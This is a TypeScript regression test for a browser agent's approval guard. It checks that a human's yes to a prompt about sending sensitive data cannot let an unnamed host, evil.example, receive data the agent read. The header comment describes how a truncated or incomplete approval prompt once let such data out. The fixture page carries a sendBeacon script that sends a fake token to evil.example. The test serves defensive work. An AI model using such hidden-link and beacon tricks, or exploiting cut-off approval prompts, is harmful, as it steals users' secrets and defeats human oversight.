// A yes to a taint question ("data read on sensitive X could be sent to Y") allows only the hosts it names, and it
// names only places it shows whole (core/guard.ts taintQuestion). Found by an attack review: the yes allowed every
// origin of the action for the session, a place the "Sends:" line left out as "not covered by this approval" and one
// the 300-character "Why asked" line cut off included. A button inside a link to evil.example, inside a form whose
// long action comes first, after reads of four sensitive sites with long names: the human, who refuses anything
// that names evil.example, approves the click on docs.example; evil.example took what the agent read, unasked.
// Assertions on what evil.example received.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';

const marker = 'ghp_hiddenTargetToken8812';
const payroll = 'payroll-benefits-and-pension-self-service.hr.intranet.corp-example.com';
const expenses = 'expenses-and-corporate-card-statements.finance.intranet.corp-example.com';
let site: Fixture;
let tw: InProcessBrowser;
const url = (host: string, path: string) => site.url(host, path);
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

before(async () => {
  site = await startFixture(
    {
      '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${marker}</p>`),
      '/me': (_req, _body, res) => html(res, '<title>Me</title><p>your statements</p>'),
      '/mail/u/0': (_req, _body, res) => html(res, '<title>Inbox</title><p>your mail</p>'),
      '/k': (_req, _body, res) => void res.writeHead(204).end(),
      'POST /search': (_req, _body, res) => html(res, '<title>Posted</title><p>posted</p>'),
      '/post': (_req, _body, res) =>
        html(
          res,
          `<title>Docs</title><input aria-label="Comment" id="c">
          <form method="post" action="/search?q=${'a'.repeat(1_200)}">
            <a href="https://evil.example:${site.port}/x"><button id="b">Post</button></a>
          </form>
          <script>document.getElementById('b').addEventListener('click', () =>
            navigator.sendBeacon('https://evil.example:${site.port}/k?d=' + encodeURIComponent(document.getElementById('c').value), 'x'));</script>`,
        ),
    },
    { tls: true },
  );
  tw = await startInProcess({ rules: [`*://${payroll}/*`, `*://${expenses}/*`] });
});

after(async () => {
  await tw?.close();
  await site?.close();
});

test('a yes to a taint question that never named evil.example does not let evil.example take what was read', async () => {
  const mcp = await tw.connect();
  // A human who approves what is shown and refuses anything that names evil.example.
  mcp.human.policy = (message) => ({ decision: /evil\.example/.test(message) ? 'reject' : 'approve' });
  try {
    for (const page of [
      url('github.com', '/settings/tokens'),
      url(payroll, '/me'),
      url(expenses, '/me'),
      url('mail.google.com', '/mail/u/0'),
    ]) {
      const went = await mcp.call('navigate_page', { url: page });
      assert.equal(went.isError, false, went.text);
      await mcp.call('take_snapshot');
    }
    await mcp.call('navigate_page', { url: url('docs.example', '/post') });
    let snapshot = await mcp.call('take_snapshot');
    const filled = await mcp.call('fill', { ref: refOf(snapshot.text, 'Comment'), value: marker });
    assert.equal(filled.isError, false, filled.text);
    snapshot = await mcp.call('take_snapshot');
    const asked = mcp.human.questions.length;
    const button = /button "?Post"?[^\n]*@(\S+)/.exec(snapshot.text)?.[1] ?? '';
    await mcp.call('click', { ref: button });
    await pause(2_000);
    // The click's own question did not name evil.example; the beacon to it is asked about on its own, and refused.
    const clickQuestions = mcp.human.questions.slice(asked);
    assert.doesNotMatch(clickQuestions[0] ?? '', /evil\.example/);
    assert.match(clickQuestions.slice(1).join('\n'), /did not predict[\s\S]*evil\.example/);
    const got = site.seen.filter(
      (request) => request.host.startsWith('evil.example:') && request.path.includes(marker),
    );
    assert.deepEqual(
      got.map((request) => request.path),
      [],
      'what was read reached evil.example',
    );
  } finally {
    await mcp.close();
  }
});
